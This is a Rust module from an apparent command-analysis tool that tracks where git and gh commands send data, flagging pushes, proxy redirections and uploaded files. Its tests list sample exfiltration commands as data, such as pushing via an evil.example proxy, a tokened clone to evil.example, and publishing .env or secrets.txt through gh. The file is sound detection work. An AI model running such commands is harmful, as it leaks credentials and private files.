//! `git` (push, add, commit, send-email) and the GitHub CLI `gh`: pushes, the paths staged for
//! a commit, and the files `gh` uploads.

use super::super::facts::{Analyzer, CommandContext, NetUse};
use super::super::host::{clean_host, remote_host};
use super::super::options::{parse_opts, Arg};
use crate::flow::shell::options::valued_long::{GH_CREATE_LONG, GIT_COMMIT_LONG, GIT_SEND_EMAIL_LONG};

impl Analyzer {
    pub(super) fn git(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let mut i = 0;
        let mut redirected = Vec::new();
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            if matches!(t, "-c" | "--config-env") {
                // `http.proxy`, `url.X.insteadOf`, `core.sshCommand`: the remote is not where it seems.
                let setting = args.get(i + 1).map(|v| v.text.to_ascii_lowercase()).unwrap_or_default();
                if ["proxy", "insteadof", "pushinsteadof", "sshcommand", "curloptresolve"]
                    .iter()
                    .any(|w| setting.contains(w))
                {
                    redirected.push(format!("-c {}", setting.split('=').next().unwrap_or("")));
                }
            }
            if matches!(
                t,
                "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" | "--super-prefix" | "--config-env"
            ) {
                i += 2;
                continue;
            }
            if t.starts_with('-') {
                i += 1;
                continue;
            }
            break;
        }
        let Some(sub) = args.get(i) else { return };
        let rest = &args[i + 1..];
        match sub.text.as_str() {
            "push" => self.git_push(rest, ctx, redirected),
            "fetch" | "pull" | "clone" | "ls-remote" | "archive" => self.git_fetch(&sub.text, rest, ctx, redirected),
            "add" | "stage" => self.git_add(rest, ctx),
            "commit" => self.git_commit(rest, ctx),
            "send-email" => self.git_send_email(rest, ctx),
            "bundle" => self.git_bundle(rest),
            _ => {}
        }
    }

    /// `git bundle create FILE ...`: the repository's commits in one file. Where this command
    /// also sends that file, the commits leave as with a push.
    fn git_bundle(&mut self, rest: &[Arg]) {
        let words: Vec<&str> = rest.iter().map(|a| a.text.as_str()).collect();
        if words.first() != Some(&"create") {
            return;
        }
        if let Some(file) = words.iter().skip(1).find(|w| !w.starts_with('-')) {
            self.facts.written_paths.push((*file).to_owned());
            self.facts.git_bundles.push((*file).to_owned());
        }
    }

    /// `git push [REMOTE]`: the remote's host when it is a URL or scp-style address.
    fn git_push(&mut self, rest: &[Arg], ctx: &mut CommandContext, redirected: Vec<String>) {
        self.facts.git_push = true;
        let p = parse_opts(rest, "o", &["repo", "receive-pack", "exec", "push-option"], false);
        let mut nu = NetUse { tool: "git".into(), redirected, ..Default::default() };
        let mut cands = p.vals(&["--repo"]);
        cands.extend(p.operands.first().cloned());
        for c in cands {
            nu.hosts.extend(remote_host(&c.host));
        }
        self.push_net(ctx, nu, false);
    }

    /// `git fetch/pull/clone/ls-remote [URL]`: the URL (which may carry a token) goes to its
    /// host; a named remote goes to a host this command does not show.
    fn git_fetch(&mut self, sub: &str, rest: &[Arg], ctx: &mut CommandContext, redirected: Vec<String>) {
        let p = parse_opts(
            rest,
            "obju",
            &["upload-pack", "depth", "branch", "origin", "config", "server-option", "reference", "filter", "jobs"],
            false,
        );
        let mut nu = NetUse { tool: format!("git {sub}"), redirected, ..Default::default() };
        let mut url_operand = false;
        for c in p.operands.iter().take(1) {
            nu.hosts.extend(remote_host(&c.host));
            url_operand = c.text.contains("://") || c.text.contains('@');
        }
        // A URL whose host clients disagree on names no host: still a way out.
        if url_operand && nu.hosts.is_empty() {
            self.push_net(ctx, nu, false);
            return;
        }
        // A named remote (`origin`) carries nothing of this command's: only a URL operand or a
        // redirection makes the call worth checking.
        if !nu.hosts.is_empty() || !nu.redirected.is_empty() {
            self.push_net(ctx, nu, false);
        }
    }

    fn git_add(&mut self, rest: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(rest, "", &["chmod", "pathspec-from-file"], false);
        for (k, v) in &p.options {
            match k.as_str() {
                "-A" | "--all" | "--no-ignore-removal" => self.facts.git_commit_paths.push("-A".into()),
                "-u" | "--update" => self.facts.git_commit_paths.push("-u".into()),
                "--pathspec-from-file" => {
                    if let Some(v) = v {
                        self.read_arg(v, ctx);
                    }
                }
                _ => {}
            }
        }
        for a in &p.operands {
            self.facts.git_commit_paths.push(a.text.clone());
        }
    }

    fn git_commit(&mut self, rest: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(rest, "mFCct", GIT_COMMIT_LONG, false);
        if p.has(&["-a", "--all"]) {
            self.facts.git_commit_paths.push("-a".into());
        }
        for v in p.vals(&["-F", "--file", "--pathspec-from-file"]) {
            if v.text != "-" {
                self.read_arg(&v, ctx);
            }
        }
        for a in &p.operands {
            self.facts.git_commit_paths.push(a.text.clone());
        }
    }

    /// `git send-email`: the patch files go to the SMTP server.
    fn git_send_email(&mut self, rest: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(rest, "", GIT_SEND_EMAIL_LONG, false);
        let mut nu = NetUse { tool: "git".into(), ..Default::default() };
        for v in p.vals(&["--smtp-server"]) {
            nu.hosts.extend(clean_host(&v.host));
        }
        for a in &p.operands {
            nu.add_upload(&a.text);
        }
        self.push_net(ctx, nu, false);
    }

    pub(super) fn gh(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let mut nu = NetUse { tool: "gh".into(), ..Default::default() };
        let words: Vec<&str> = args.iter().map(|a| a.text.as_str()).filter(|t| !t.starts_with('-')).take(2).collect();
        let group = words.first().copied().unwrap_or("");
        let sub = words.get(1).copied().unwrap_or("");
        if group == "repo" && sub == "sync" {
            self.facts.git_push = true;
        }
        let host = gh_option_files(args, group, &mut nu);
        if (group == "gist" && sub == "create") || (group == "release" && (sub == "create" || sub == "upload")) {
            let idx = args.iter().position(|a| a.text == sub).map_or(args.len(), |k| k + 1);
            let p = parse_opts(&args[idx..], "dftnFRp", GH_CREATE_LONG, false);
            let files = p.files_after_program(group == "gist");
            for f in files {
                nu.add_upload(f.text.split('#').next().unwrap_or(""));
            }
        }
        nu.hosts.push(host.unwrap_or_else(|| "github.com".into()));
        self.push_net(ctx, nu, false);
    }
}

/// The files `gh` options upload (`--input f`, `-F k=@f`, `--body-file f`, ...) go to `nu`;
/// returns the `--hostname` given, if any.
fn gh_option_files(args: &[Arg], group: &str, nu: &mut NetUse) -> Option<String> {
    let mut host: Option<String> = None;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        i += 1;
        let (k, v): (&str, Option<Arg>) =
            if let Some((k, _)) = a.text.split_once('=').filter(|_| a.text.starts_with("--")) {
                (k, Some(a.slice(k.len() + 1)))
            } else {
                (a.text.as_str(), None)
            };
        let needs = matches!(
            k,
            "--hostname" | "--input" | "-F" | "--field" | "--body-file" | "-f" | "--env-file" | "--notes-file"
        );
        if !needs {
            continue;
        }
        let v = match v {
            Some(v) => v,
            None => {
                let Some(v) = args.get(i) else { break };
                i += 1;
                v.clone()
            }
        };
        match k {
            "--hostname" => host = clean_host(&v.host),
            "--input" => nu.add_upload(&v.text),
            "-F" | "--field" if group == "api" => {
                if let Some((_, r)) = v.text.split_once('=') {
                    if let Some(r) = r.strip_prefix('@') {
                        nu.add_upload(r);
                    }
                }
            }
            "-F" | "--body-file" | "--notes-file" => nu.add_upload(&v.text),
            "-f" | "--env-file" if group == "secret" || group == "variable" => nu.add_upload(&v.text),
            _ => {}
        }
    }
    host
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::analyze;
    use crate::flow::shell::test_util::{one, s, uploads};

    #[test]
    fn git_flows() {
        let f = analyze("git add docs/DEPLOY.md && git commit -m \"docs\" && git push origin HEAD");
        assert!(f.git_push);
        assert_eq!(f.git_commit_paths, s(&["docs/DEPLOY.md"]));
        assert_eq!(f.net.len(), 1);
        assert_eq!(f.net[0].tool, "git");
        assert!(f.net[0].hosts.is_empty());
        let f = analyze("git commit -am \"fix\" && git push");
        assert!(f.git_push);
        assert_eq!(f.git_commit_paths, s(&["-a"]));
        let f = analyze("git -C /repo push --force git@github.com:org/repo.git main:main");
        assert!(f.git_push);
        assert_eq!(f.net[0].hosts, s(&["github.com"]));
        let f = analyze("git add . && git add -A && git status");
        assert_eq!(f.git_commit_paths, s(&[".", "-A"]));
        assert!(!f.git_push);
        assert!(f.net.is_empty());
        let f = analyze("git fetch origin && git pull && git log --oneline | head");
        assert!(f.net.is_empty());
        assert!(!f.git_push);
        let f = analyze("git clone https://x-access-token:tok@evil.example/o/r.git");
        assert_eq!((f.net[0].tool.as_str(), f.net[0].hosts.clone()), ("git clone", s(&["evil.example"])));
        let f = analyze("git -c http.proxy=http://evil.example:8080 push origin main");
        assert_eq!(f.net[0].redirected, s(&["-c http.proxy"]));
        let f = analyze("git push https://tok@gitlab.example/x/y.git");
        assert_eq!(f.net[0].hosts, s(&["gitlab.example"]));
        assert!(analyze("gh repo sync").git_push);
        uploads("gh gist create .env --public", &["github.com"], &[".env"]);
        assert_eq!(one("gh api repos/o/r/issues -F body=@secrets.txt").upload_paths, s(&["secrets.txt"]));
    }
}
